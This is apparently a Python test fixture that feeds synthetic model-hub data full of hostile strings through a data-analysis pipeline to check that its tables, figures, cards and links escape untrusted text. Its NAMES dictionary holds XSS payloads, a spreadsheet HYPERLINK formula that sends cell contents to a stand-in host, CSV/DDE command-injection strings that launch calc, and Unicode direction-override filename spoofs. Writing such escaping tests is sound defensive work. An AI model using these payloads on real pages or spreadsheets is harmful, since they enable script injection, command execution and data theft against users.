"""Text as a stranger could write it, in files of the kinds that the readers read.

Synthetic: no such repository exists. Each name tries to be more than text: HTML, scripts, Markdown
and MyST, formulas of a spreadsheet, signs that turn or hide text, and sheer length. A page of a
small book (see `tests/test_book_untrusted.py`) shows what the pipeline makes of them.
"""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq

from analysis import raw, snapshot
from analysis.builder.writing import csv_bytes, json_bytes
from analysis.measure import concentration, derivatives, snapshots
from analysis.present import cards, charts, markup, share_bars
from analysis.present.figure import Source, figure, fixed
from analysis.present.markup import Html
from analysis.present.tables import Column, csv_text, table, verdict
from analysis.snapshot import families as families_module
from analysis.snapshot import lineage

#: What a script that ran would leave behind.
FLAG = "omrHacked"
_RUN = f"window.{FLAG}=1"

NAMES = {
    "script": f"<script>{_RUN};alert('ran')</script>",
    "image": f'<img src="https://evil.invalid/x.png" onerror="{_RUN}">',
    "svg": f"<svg onload={_RUN}><use href='https://evil.invalid/y'/></svg>",
    "cell": "</td></tr></table></div><h1>escaped</h1>",
    "comment": "<!-- <style>*{display:none}</style>",
    "attribute": f'" onmouseover="{_RUN}" autofocus onfocus=\'{_RUN}\' x="',
    "end-of-script": f"</script><script>{_RUN}</script>",
    "end-of-title": f"</title></desc></svg><script>{_RUN}</script>",
    "entity": f"&lt;script&gt;{_RUN}&lt;/script&gt;&#x202e;",
    "template": "{{ 7*7 }} ${7*7} {% raw %} #{7*7}",
    "markdown": f"[link](javascript:{_RUN}) ![x](https://evil.invalid/z.png) **bold** `code`",
    "myst": "```{raw} html\n<script>window.omrHacked=1</script>\n```\n{eval}`1+1` {ref}`nowhere`",
    "address": f"javascript:{_RUN}",
    "formula": '=HYPERLINK("https://evil.invalid/?"&A1,"open")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "lines": "\n\n=1+1\r\n=2+2",
    "blank": "   =1+1",
    "full-width": "＝1+1",
    "hidden-before": "\u200b=1+1",
    "quotes": '\',"=1+1",\'";=1+1|',
    "turned": "\u202egnp.exe\u202c \u2066\u2069 \u200f\u061cend",
    "hidden": "a\u200bb\u200cc\u2060d\ufeffe\u00adf\u180eg",
    "control": "a\x00b\x07c\x1b[31md\x7fe\x85f\x9b31mg",
    "line-ends": "a\u2028b\u2029c\x0bd\x0ce",
    "no-characters": "\ufffe\uffff\ufdd0\U0001fffe",
    "tags": "\U000e0041\U000e0042\U000e007f",
    "marks": "Z" + "\u0301\u0489" * 40,
    "long": "W" * 10_000,
    "long-words": "<b>=x</b> " * 1_000,
}
#: Where a text is the authors' own, so that its length is theirs too.
SHORT = "</svg><b>&\"'x"
#: JSON can spell half of a pair of surrogates; no other format here can.
LONE = "a\ud800b\udfffc"


def ids() -> list[str]:
    """Return ids of repositories: each name as a repository of Qwen's and as one of its own."""
    return [f"Qwen/Qwen2.5-{name}" for name in NAMES.values()] + [
        f"{name}/{name[:200]}" for name in NAMES.values()
    ]


def write(folder: Path) -> dict[str, Path]:
    """Write one file a kind; return them by kind, JSON with lone surrogates under `lone`."""
    made = ids()
    words = list(NAMES.values()) * 2
    counts = [1000 + 7 * place for place in range(len(made))]
    dump = pa.table(
        {
            "id": made,
            "downloads": counts,
            "downloadsAllTime": [10 * count for count in counts],
            "likes": counts,
            "pipeline_tag": words,
            "library_name": words,
            "tags": [[f"license:{word}", word] for word in words],
            "cardData": [json.dumps({"license_name": word}) for word in words],
            "createdAt": pa.array([1_700_000_000_000_000] * len(made), pa.timestamp("us")),
            "baseModels": [
                {"relation": "finetune", "models": [{"id": made[place // 2]}]}
                for place in range(len(made))
            ],
        }
    )
    paths = {kind: folder / f"{kind}.bin" for kind in ("hub-snapshot", "hub-top30", "lone")}
    pq.write_table(dump, paths["hub-snapshot"])
    rows = [
        {"id": one, "downloads": count, "likes": 1, "tags": [word], "pipelineTag": word}
        for one, count, word in zip(made, counts, words, strict=True)
    ]
    top = {"updated": "2026-02-28T21:05:56.239Z", "models": rows, "smallModels": []}
    paths["hub-top30"].write_text(json.dumps(top), encoding="utf-8")
    paths["lone"].write_text(json.dumps([{"id": f"{LONE}/x", "downloads": 5}]), encoding="utf-8")
    paths["lineage-edges"] = folder / "edges.csv"
    out = io.StringIO()
    writer = csv.writer(out)
    writer.writerow(["source", "target", "edge"])
    bases = ["Qwen/Qwen2.5-7B", "meta-llama/Llama-3-8B"]
    for place, one in enumerate(made):
        writer.writerow([bases[place % 2], one, words[place] if place % 3 else "finetune"])
    paths["lineage-edges"].write_bytes(out.getvalue().encode("utf-8"))
    return paths


def measured(folder: Path) -> dict[str, pd.DataFrame]:
    """Read the files in a folder and compute from them; return tables that hold strangers' text."""
    paths = write(folder)
    families = families_module.parse(raw.declared("families"))
    dump = snapshot.read(paths["hub-snapshot"], "hub-snapshot").frame
    top = snapshot.read(paths["hub-top30"], "hub-top30").frame
    edges = snapshot.read(paths["lineage-edges"], "lineage-edges").frame
    owner = {str(i): str(i).split("/", 1)[0] for i in dump["repository_id"]}
    counters = dump.set_index("repository_id")["downloads_30d"].astype("float64")
    by_owner = snapshots.tabulate(counters, owner, None, None, None)
    shares = pd.DataFrame(
        {"organisation": name, "share": part.share, "downloads": part.downloads}
        for name, part in by_owner.groups.items()
    )
    graph = lineage.of(edges, families).graph
    rule = derivatives.Rule()
    derived = derivatives.listed(graph, families, rule)
    licences = dump.groupby("licence", sort=True).size().rename("repositories").reset_index()
    carried = concentration.of_edges(edges).rename("derivatives").reset_index()
    family = families_module.assign(dump["repository_id"], families)
    return {
        "dump": dump.assign(family=family),
        "top": top,
        "edges": edges,
        "shares": shares,
        "derived": derived,
        "licences": licences,
        "carried": carried,
    }


def written(tables: dict[str, pd.DataFrame]) -> dict[str, bytes]:
    """Return every file that the pipeline writes from tables: derived files and data of figures."""
    files = {f"{name}.csv": csv_bytes(frame) for name, frame in tables.items()}
    files |= {f"{name}-figure.csv": csv_text(frame).encode() for name, frame in tables.items()}
    records = {name: frame.head(99).astype("object") for name, frame in tables.items()}
    files["tables.json"] = json_bytes(
        {name: frame.where(frame.notna(), None).astype(str).to_dict("records")
         for name, frame in records.items()}
    )  # fmt: skip
    return files


# --- what the page of the small book calls --------------------------------------------------------


def _tables() -> dict[str, pd.DataFrame]:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        return measured(Path(folder))


def shown_tables() -> Html:
    """Return every table, wide and stacked."""
    made = _tables()
    parts = [
        table(frame.astype("object"), caption=f"{NAMES['cell']} {name}", stacked=name == "shares")
        for name, frame in made.items()
    ]
    verdicts = "".join(f"<p>{verdict(name)}</p>" for name in NAMES.values())
    return Html("".join(parts) + verdicts)


def shown_figures() -> Html:
    """Return figures whose labels, series and parts are strangers' text."""
    names = list(NAMES.values())
    rows = pd.DataFrame(
        {"label": names, "value": 0.5, "lower": 0.4, "upper": 0.6, "grade": "computed"}
    )
    few = names[:4] + names[-2:]
    lines = pd.DataFrame(
        [
            {"day": f"2026-0{month}", "series": name, "value": 1e6 * (place + month)}
            for place, name in enumerate(few)
            for month in (1, 2, 3)
        ]
    )
    bars = pd.DataFrame({"row": names, "label": names, "part": names, "share": 1.0, "strong": True})
    sources = [Source(name, name, name) for name in names]
    drawn = {
        "rows": (rows, fixed(lambda width: charts.interval_rows(
            rows, width, unit="share", measure=SHORT, mark=0.5, mark_label=SHORT))),
        "lines": (lines, fixed(lambda width: charts.time_lines(
            lines, width, unit="downloads", measure=SHORT, mark=2e6, mark_label=SHORT))),
        "bars": (bars, fixed(lambda width: share_bars.share_bars(bars, width, axis=SHORT))),
    }  # fmt: skip
    return Html("".join(
        figure(draw, id=f"{id} {names[5]}", title=names[6], subtitle=names[7], alt=names[-1],
               data=data, sources=sources, everything=NAMES["address"], note=NAMES["end-of-title"],
               columns=[Column(str(name)) for name in data.columns])
        for id, (data, draw) in drawn.items()
    ))  # fmt: skip


def shown_cards() -> Html:
    """Return a card of a source of which a stranger wrote every word."""
    names = list(NAMES.values())
    version = SimpleNamespace(
        name=names[0], sha256=names[1], git_tree="", licence=names[2], note=names[3],
        as_of=names[4], as_of_known_by=names[5], hash_by=names[6], bytes=5, url=NAMES["address"],
    )  # fmt: skip
    made = []
    for place, name in enumerate(names):
        words = dict.fromkeys(raw.Source.model_fields, name)
        words |= {"known_problems": (name,), "share_alike": False, "versions": (version,)}
        source = SimpleNamespace(**words | {"id": f"{place}-{name}"})
        made += [cards.card(source), cards.versions([source])]
    return Html("".join(made))


def links() -> Html:
    """Return what becomes of each name as the address of a link."""
    return Html("".join(f"<p>{markup.safe_link(name, name)}</p>" for name in NAMES.values()))


def inline() -> Html:
    """Return names in the middle of a sentence."""
    return markup.join(NAMES.values(), " and ")
